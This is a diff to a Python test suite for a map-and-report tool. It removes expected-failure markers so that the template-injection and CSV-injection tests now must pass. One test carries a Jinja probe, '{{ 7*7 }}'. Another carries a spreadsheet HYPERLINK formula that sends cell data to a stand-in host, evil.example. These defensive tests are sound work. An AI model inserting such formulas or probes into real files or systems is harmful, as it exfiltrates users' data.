@@ -56,7 +56,7 @@ def _open(page, path: Path) -> dict:
 
 def _build(layers: Path, out: Path) -> Path:
     assert kzgeo.validate(layers) == []
-    (path,) = [p for p in kzgeo.build(layers, out) if p.name == "overview.html"]
+    (path,) = [p for p in kzgeo.build(layers, out, maps_dir=out) if p.name == "overview.html"]
     return path
 
 
@@ -109,19 +109,16 @@ def _edited_in_python(layers: Path, out: Path) -> str:
 def _map_spec_title(layers: Path, out: Path) -> str:
     out.mkdir()
     (out / "overview.toml").write_text('title = "A{{ 7*7 }}B"\n', encoding="utf-8")
-    (path,) = kzgeo.build(layers, out)
+    (path,) = kzgeo.build(layers, out, spec=out / "overview.toml")
     return path.read_text(encoding="utf-8")
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="render.py/assets.py: branca compiles each element's generated script as a Jinja template again, "
-    "so '{{' reaching the renderer other than through the loader (a Dataset edited in Python, a map spec title) "
-    "is evaluated; the loader refuses it, the renderer should escape it",
-)
 @pytest.mark.parametrize("route", [_edited_in_python, _map_spec_title], ids=["dataset edited in Python", "map spec title"])
 def test_template_marker_reaching_the_renderer_is_not_evaluated(layers_dir, tmp_path, route):
-    assert "A49B" not in route(layers_dir, tmp_path / "maps")
+    """The page renders each element's template once, so "{{" in a value stays text."""
+    page = route(layers_dir, tmp_path / "maps")
+    assert "A49B" not in page
+    assert "A{{ 7*7 }}B" in page
 
 
 def test_analyst_supplied_javascript_url_is_never_a_link(layers_dir, tmp_path, offline_page):
@@ -175,11 +172,6 @@ def test_markup_in_source_text_is_accepted_as_text(layers_dir):
     assert data.cited("src-a")[0]["title"] == payload("sources.title").strip()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="report.py writes text cells as they are: a name starting with = or @ becomes a formula when the CSV "
-    "is opened in a spreadsheet (CSV injection); report should neutralise such cells, e.g. prefix them with '",
-)
 def test_report_csv_does_not_carry_spreadsheet_formulas(layers_dir):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     set_cell(layers_dir / "deposits.csv", "upper-kairakty", "name_en", formula)
